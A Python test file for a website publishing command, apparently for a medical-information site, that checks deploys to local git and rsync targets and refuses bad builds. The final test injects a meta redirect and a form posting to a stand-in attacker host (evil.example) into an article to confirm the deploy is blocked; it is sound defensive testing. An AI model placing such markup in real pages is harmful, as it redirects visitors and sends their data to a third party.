"""`invoke publish`: deploys exactly the checked production build, or nothing.

Every target here is a temp folder or a local bare repository.
"""

from scripts.build import write_marker
from scripts.reviews import mark_reviewed, read_settings
from tests.conftest import read
from tests.publish.helpers import (
    ARTICLE_PAGE,
    ARTICLE_SOURCE,
    bare_repo,
    branch_digests,
    git,
    invoke_publish,
    publish_ok,
    tree_digests,
)

SKIP_HTML = "--skip-html-check"
# The real content still holds placeholders: production publishing refuses them
# (tests/publish/test_launch.py), so these publish the staging preview.
STAGING = "--staging"


def test_gh_pages_gets_exactly_the_built_site(tmp_path, staging_site):
    remote = bare_repo(tmp_path / "remote.git")
    publish_ok(STAGING, "--target", "gh-pages", "--remote", str(remote))
    assert branch_digests(remote) == tree_digests(staging_site)
    assert git("--git-dir", str(remote), "rev-list", "--count", "gh-pages").strip() == "1"


def test_a_changed_article_is_shown_by_a_dry_run_then_published_as_one_commit(
        tmp_path, content_copy):
    # The HTML validator is tested on its own: these publishes skip it, to save time.
    remote = bare_repo(tmp_path / "remote.git")
    publish_ok(STAGING, "--remote", str(remote), "--content", str(content_copy), SKIP_HTML)
    source = content_copy / ARTICLE_SOURCE
    source.write_text(read(source).replace("Many people ask", "Many patients ask us", 1),
                      encoding="utf-8")
    # A medical text: published once a clinician has reviewed the change (invoke reviewed).
    reviewed = read(source).split("\nReviewed: ", 1)[1][:10]
    mark_reviewed(source, read_settings(content=content_copy), on=reviewed)
    before = git("--git-dir", str(remote), "rev-parse", "gh-pages")
    result = publish_ok(STAGING, "--remote", str(remote), "--content",
                        str(content_copy), "--dry-run",
                        SKIP_HTML)
    assert "would commit" in result.stdout and ARTICLE_PAGE in result.stdout
    assert git("--git-dir", str(remote), "rev-parse", "gh-pages") == before

    result = publish_ok(STAGING, "--remote", str(remote), "--content",
                        str(content_copy), SKIP_HTML)
    assert "commits to gh-pages" in result.stdout
    assert git("--git-dir", str(remote), "rev-list", "--count", "gh-pages").strip() == "2"
    changed = set(git("--git-dir", str(remote), "diff", "--name-only", "gh-pages~1",
                      "gh-pages").split())
    assert {ARTICLE_PAGE, ARTICLE_PAGE + ".gz", ARTICLE_PAGE + ".br"} <= changed
    assert "contact/index.html" not in changed and "_headers" not in changed
    page = git("--git-dir", str(remote), "show", f"gh-pages:{ARTICLE_PAGE}")
    assert "Many patients ask us" in page

    # Nothing changed since: no empty commit.
    result = publish_ok(STAGING, "--remote", str(remote), "--content",
                        str(content_copy), SKIP_HTML)
    assert "nothing to publish" in result.stdout
    assert git("--git-dir", str(remote), "rev-list", "--count", "gh-pages").strip() == "2"


def test_rsync_makes_the_folder_identical_and_removes_stale_files(tmp_path, staging_site):
    dest = tmp_path / "www"
    (dest / "old-section").mkdir(parents=True)
    (dest / "old-section" / "index.html").write_text("a page no longer built")
    (dest / "stale.css").write_text("body{}")
    write_marker(dest)  # an earlier publish
    publish_ok(STAGING, "--target", "rsync", "--dest", str(dest), SKIP_HTML)
    assert tree_digests(dest) == tree_digests(staging_site)
    assert not (dest / "old-section").exists()
    assert oct((dest / "index.html").stat().st_mode & 0o777) == "0o644"


def test_rsync_dry_run_lists_changes_and_touches_nothing(tmp_path):
    dest = tmp_path / "www"
    dest.mkdir()
    (dest / "stale.html").write_text("old")
    write_marker(dest)  # an earlier publish
    result = publish_ok(STAGING, "--target", "rsync", "--dest", str(dest), "--dry-run",
                        SKIP_HTML)
    assert "deleting   stale.html" in result.stdout
    assert "index.html" in result.stdout
    assert sorted(path.name for path in dest.iterdir()) == [".site-build", "stale.html"]


def test_a_failing_check_deploys_nothing_and_says_why(tmp_path, content_copy):
    remote = bare_repo(tmp_path / "remote.git")
    dest = tmp_path / "www"
    dest.mkdir()
    (dest / "live.html").write_text("the live site")
    write_marker(dest)  # an earlier publish
    publish_ok(STAGING, "--remote", str(remote), "--content", str(content_copy), SKIP_HTML)
    before = git("--git-dir", str(remote), "rev-parse", "gh-pages")

    article = content_copy / ARTICLE_SOURCE
    article.write_text(read(article) + "\nSee [our old page](/no-such-page/).\n",
                       encoding="utf-8")
    for target in (["--target", "gh-pages", "--remote", str(remote)],
                   ["--target", "rsync", "--dest", str(dest)]):
        result = invoke_publish(STAGING, *target, "--content", str(content_copy), SKIP_HTML)
        assert result.returncode != 0
        assert "nothing was deployed" in result.stderr
        assert "/no-such-page/" in result.stderr  # says why
    assert git("--git-dir", str(remote), "rev-parse", "gh-pages") == before
    assert sorted(path.name for path in dest.iterdir()) == [".site-build", "live.html"]


def test_publish_refuses_without_the_html_validator_unless_told(tmp_path):
    dest = tmp_path / "www"
    missing = {"VNU_JAR": str(tmp_path / "no-vnu.jar")}
    result = invoke_publish(STAGING, "--target", "rsync", "--dest", str(dest), env=missing)
    assert result.returncode != 0
    assert "HTML validator is missing" in result.stderr and "--skip-html-check" in result.stderr
    assert not dest.exists()
    result = invoke_publish(STAGING, "--target", "rsync", "--dest", str(dest),
                            "--skip-html-check", env=missing)
    assert result.returncode == 0, result.stderr
    assert "HTML validity NOT checked" in result.stdout
    assert (dest / "index.html").is_file()


def test_invalid_html_fails_the_validator(tmp_path):
    from scripts.publish import PublishError, check_html

    (tmp_path / "bad.html").write_text(
        "<!doctype html><html lang=en><title>x</title><p><div>x</span>")
    try:
        check_html(tmp_path, skip=False)
    except PublishError as error:
        assert "bad.html" in str(error)
    else:
        raise AssertionError("vnu accepted invalid HTML")


def test_hostile_html_in_an_article_deploys_nothing(tmp_path, content_copy):
    """The production build checks raw HTML too: a meta redirect and a form to another site
    in the text stop the deploy, each named at its line."""
    dest = tmp_path / "www"
    dest.mkdir()
    (dest / "live.html").write_text("the live site")
    write_marker(dest)  # an earlier publish
    article = content_copy / ARTICLE_SOURCE
    text = read(article)
    hostile = ('\n<meta http-equiv="refresh" content="0; url=https://evil.example/">\n\n'
               '<form action="https://evil.example/collect"><input name="pain"></form>\n')
    article.write_text(text + hostile, encoding="utf-8")
    result = invoke_publish(STAGING, "--target", "rsync", "--dest", str(dest), "--content",
                            str(content_copy), SKIP_HTML)
    assert result.returncode != 0
    assert "nothing was deployed" in result.stderr
    lines = len(text.splitlines())
    assert f"{article}:{lines + 2}: raw HTML <meta>" in result.stderr, result.stderr
    assert f"{article}:{lines + 4}: raw HTML <form>" in result.stderr, result.stderr
    assert sorted(path.name for path in dest.iterdir()) == [".site-build", "live.html"]
